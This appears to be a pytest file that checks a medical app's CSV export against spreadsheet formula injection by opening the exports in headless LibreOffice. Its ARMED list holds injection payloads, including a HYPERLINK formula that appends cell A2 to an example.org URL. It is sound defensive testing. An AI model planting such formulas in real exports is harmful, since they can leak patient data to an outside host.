"""A CSV "for spreadsheets" as a real spreadsheet opens it: LibreOffice runs nothing of it and loses nothing."""

from __future__ import annotations

import io
import os
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from uuid import uuid4
from xml.etree import ElementTree

import pytest

from app import exports
from app.builder import csv_text
from app.exports import ReportParams
from tests.factories import World

pytestmark = pytest.mark.long

LONG_AGO = datetime(2000, 1, 1, tzinfo=UTC)
PATIENCE_SECONDS = 300
# Comma, double quote, UTF-8, from line 1, US English, "detect special numbers" and "evaluate formulas": what a
# person gets who agrees to everything, and the worst that a file can be opened with.
IMPORT = "CSV:44,34,76,1,,1033,false,true,false,true,false,0,true"
ARMED = (
    "=1+1",
    '=HYPERLINK("https://example.org/?x="&A2,"患者")',
    '=1+1\nsecond line, with "quotes" and 患者',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
)
HARMLESS = (
    "患者は元気です",
    "О пациентке: всё хорошо",
    'she said "no", twice',
    "one line\nand another, of 患者",
    "a,b;c",
    "it's =1+1",
)
Opened = list[list["Cell"]]
Open = Callable[[bytes], Opened]


@dataclass(frozen=True)
class Cell:
    """``kind`` is what the spreadsheet took it for: ``string``, ``float``, ``date``, ``boolean`` or nothing."""

    kind: str | None
    text: str
    value: str | None
    formula: str | None


@pytest.fixture
def spreadsheet(tmp_path: Path) -> Open:
    """``spreadsheet(csv)``: the rows as LibreOffice has them after opening the file."""

    def opened(content: bytes) -> Opened:
        folder = tmp_path / str(uuid4())
        folder.mkdir()
        (folder / "patient.csv").write_bytes(content)
        command = ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/profile"]
        command += [f"--infilter={IMPORT}", "--convert-to", "fods", "--outdir", folder, folder / "patient.csv"]
        environment = os.environ | {"HOME": str(tmp_path)}
        told = subprocess.run(command, env=environment, capture_output=True, timeout=PATIENCE_SECONDS, check=False)
        made = folder / "patient.fods"
        assert made.is_file(), told.stderr.decode(errors="replace") + told.stdout.decode(errors="replace")
        return _rows(made)

    return opened


def patients_csv(world: World, *, for_spreadsheets: bool) -> bytes:
    """A report of all patients, oldest first, as a worker makes it."""
    params = ReportParams(("patient",), start=LONG_AGO, order="asc", format="csv", for_spreadsheets=for_spreadsheets)
    export = exports.request_export(world.actor("alice"), "report", params, request_key=str(uuid4()))
    exports.work_until_idle("test")
    with exports.open_archive(world.actor("alice"), export.id).stream as stream:
        return zipfile.ZipFile(io.BytesIO(stream.read())).read("patient.csv")


def by_name(rows: Opened) -> list[dict[str, Cell]]:
    names = [cell.text for cell in rows[0]]
    return [dict(zip(names, row, strict=False)) for row in rows[1:]]


def formulas(rows: Opened) -> list[str]:
    return [cell.formula for row in rows for cell in row if cell.formula is not None]


def test_text_that_would_run_arrives_as_text_behind_its_apostrophe(domain: World, spreadsheet: Open) -> None:
    for text in ARMED:
        domain.patient(notes=text, first_name="=1+1")
    rows = spreadsheet(patients_csv(domain, for_spreadsheets=True))
    assert formulas(rows) == []
    assert [row["notes"].kind for row in by_name(rows)] == ["string"] * len(ARMED)
    assert [row["notes"].text for row in by_name(rows)] == [f"'{text}" for text in ARMED]
    assert {row["first_name"].text for row in by_name(rows)} == {"'=1+1"}
    assert all(row["_caption"].text.startswith("'=1+1 Ruiz") for row in by_name(rows))


def test_without_the_option_the_same_text_runs_and_this_test_sees_it(domain: World, spreadsheet: Open) -> None:
    for text in ARMED:
        domain.patient(notes=text, first_name="=1+1")
    rows = spreadsheet(patients_csv(domain, for_spreadsheets=False))
    assert formulas(rows).count("of:=1+1") >= len(ARMED)  # each first name, and the first of the notes
    assert any("HYPERLINK" in formula for formula in formulas(rows))


def test_harmless_text_arrives_as_it_was_written_in_any_alphabet(domain: World, spreadsheet: Open) -> None:
    for text in HARMLESS:
        domain.patient(notes=text, last_name="患者")
    rows = spreadsheet(patients_csv(domain, for_spreadsheets=True))
    assert formulas(rows) == []
    assert [row["notes"].text for row in by_name(rows)] == list(HARMLESS)
    assert {row["_caption"].text for row in by_name(rows)} == {"Ana 患者"}


def test_numbers_arrive_as_numbers_and_dates_as_dates(domain: World, spreadsheet: Open) -> None:
    patient = domain.patient(age=40, weight=71.5, born="1984-05-06", smoker=True)
    domain.patient(age=0, weight=-1.5, born="2024-02-29", smoker=False)
    created = patient.created_at.strftime("%Y-%m-%dT%H:%M:%S.000Z")
    rows = spreadsheet(patients_csv(domain, for_spreadsheets=True))
    assert formulas(rows) == []
    first, second = by_name(rows)
    assert [(one["age"].kind, one["age"].value) for one in (first, second)] == [("float", "40"), ("float", "0")]
    assert [(one["weight"].kind, one["weight"].value) for one in (first, second)] == [
        ("float", "71.5"),
        ("float", "-1.5"),
    ]
    assert [(one["born"].kind, one["born"].value) for one in (first, second)] == [
        ("date", "1984-05-06"),
        ("date", "2024-02-29"),
    ]
    assert [(one["smoker"].kind, one["smoker"].value) for one in (first, second)] == [
        ("boolean", "true"),
        ("boolean", "false"),
    ]
    # A spreadsheet's times have no zone: it leaves ours as the text that it is, to the millisecond.
    assert (first["_creationTime"].kind, first["_creationTime"].text) == ("string", created)


def test_the_header_arrives_without_the_byte_order_mark_and_does_not_run(domain: World, spreadsheet: Open) -> None:
    rows = spreadsheet(patients_csv(domain, for_spreadsheets=True))
    names = [cell.text for cell in rows[0]]
    assert names[:2] == ["_id", "_caption"]
    assert {"first_name", "device.id", "device.name", "analysis_file.id"} <= set(names)


@pytest.mark.parametrize("guarded", [True, False])
def test_a_header_that_would_run_is_disarmed_too(spreadsheet: Open, guarded: bool) -> None:
    # No template may have such a name today; the writer does not rely on it.
    rows = spreadsheet(csv_text.header(["=1+1", "患者"], guarded) + b"x,y\r\n")
    assert formulas(rows) == ([] if guarded else ["of:=1+1"])
    assert [cell.text for cell in rows[0]] == ["'=1+1" if guarded else "2", "患者"]


OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def _rows(path: Path) -> Opened:
    tree = ElementTree.parse(path)  # noqa: S314  what LibreOffice wrote a moment ago
    return [
        [cell for element in row for cell in _cells(element)]
        for table in tree.iter(f"{TABLE}table")
        for row in table.iter(f"{TABLE}table-row")
    ]


def _cells(element: ElementTree.Element) -> list[Cell]:
    kind = element.get(f"{OFFICE}value-type")
    value = element.get(f"{OFFICE}value") or element.get(f"{OFFICE}{kind}-value")
    text = "\n".join(_words(line) for line in element.iter(f"{TEXT}p"))
    cell = Cell(kind, text, value, element.get(f"{TABLE}formula"))
    return [cell] * int(element.get(f"{TABLE}number-columns-repeated", "1"))


def _words(element: ElementTree.Element) -> str:
    """The text of a paragraph; tabs, line breaks and runs of blanks are elements there."""
    if element.tag == f"{TEXT}tab":
        said = "\t"
    elif element.tag == f"{TEXT}line-break":
        said = "\n"
    elif element.tag == f"{TEXT}s":
        said = " " * int(element.get(f"{TEXT}c", "1"))
    else:
        said = element.text or ""
    return said + "".join(_words(child) + (child.tail or "") for child in element)
